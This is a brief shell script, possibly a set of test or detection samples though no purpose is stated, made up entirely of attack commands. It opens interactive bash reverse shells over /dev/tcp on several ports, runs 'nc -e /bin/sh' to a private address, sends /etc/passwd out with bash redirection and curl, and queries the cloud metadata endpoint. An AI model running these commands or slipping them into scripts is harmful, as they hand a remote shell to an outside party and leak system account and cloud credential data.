for p in 4444 1234 9999; do
  bash -i >&/dev/tcp/127.0.0.1/$p 0>&1
  bash -c "cat /etc/passwd >/dev/tcp/10.0.2.15/$p"
done
echo x >/dev/udp/127.0.0.1/53
nc -e /bin/sh 10.0.2.15 4444
curl -d @/etc/passwd http://127.0.0.1:8080/
wget -qO- http://169.254.169.254/
